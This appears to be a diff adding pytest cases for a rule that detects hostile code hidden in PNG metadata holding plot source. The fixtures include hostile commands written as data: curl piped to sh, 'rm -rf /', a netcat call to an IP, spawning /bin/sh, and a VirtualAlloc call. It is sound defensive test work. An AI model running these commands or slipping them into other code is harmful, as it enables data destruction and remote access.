@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
+import pytest
+
 from tests.embedding import in_comments, with_chunk
 
 if TYPE_CHECKING:
@@ -64,8 +66,41 @@ def test_is_silent_about_words_on_code(fired: Fired) -> None:
         b"Echo of the past: he typed os.system('clear') and it's what they'd seen before",
         b"From the slide 'import os' one learns to call os.system(\"id\") and what comes of it",
         b"Case study of the exam: document.location='x' was what they had asked about",
+        b'// document.write("hello") on a sticker\n// taken in the old town',
+        b"# os.system('id') is on the screen\nx = 1",
+        b"# Install\n```\ncurl http://example.org/x | sh\n```\nThen run it on this picture.",
+        b"# Install\n\n    curl http://example.org/x | sh\n\nEnjoy the picture!",
+        b"# Usage\n```python\nimport os\na = 1\nb = 2\nos.system('id')\n```\nGood luck to you",
     ]
     assert fired(RULE, in_comments(told)) == {}
+
+
+@pytest.mark.parametrize(
+    ("call", "is_found"),
+    [
+        (b"subprocess.run(['ffmpeg', '-i', 'in.mp4', 'out%d.png'])", False),
+        (b"subprocess.run(['ffmpeg', '-r', str(5), '-i', path, 'out.mp4'])", False),
+        (b"os.system('dvipng -o fig.png fig.dvi')", False),
+        (b"os.system(f'dot -Tpng {name}.dot')", False),
+        (b"os.system('gnuplot plot.gp')", False),
+        (b"os.system('mkdir -p plots && blender -b scene.blend -f 1')", False),
+        (b"ctypes.windll.user32.SetProcessDPIAware()", False),
+        (b"x = ctypes.c_double(1)", False),
+        (b"ctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)", True),
+        (b"subprocess.run(['curl', 'http://example.org/a.png'])", True),
+        (b"os.system('sh a.png')", True),
+        (b"os.system('./a.png')", True),
+        (b"os.system('convert a.png b.png | sh')", True),
+        (b"os.system('mkdir plots && rm -rf /')", True),
+        (b"os.system('convert a.png b.png && nc 192.0.2.1 80')", True),
+        (b"os.execl('/bin/sh', 'sh')", True),
+    ],
+)
+def test_a_plot_s_source_may_call_what_draws(fired: Fired, call: bytes, is_found: bool) -> None:
+    source = (
+        b"Source\0import os, ctypes, subprocess\nimport matplotlib.pyplot as plt\n%s\nplt.savefig('a.png')\n" % call
+    )
+    assert bool(fired(RULE, {"a.png": with_chunk(b"tEXt", source)})) == is_found
 
 
 def test_a_plot_s_source_may_ask_for_versions_and_run_nothing_else(fired: Fired) -> None:
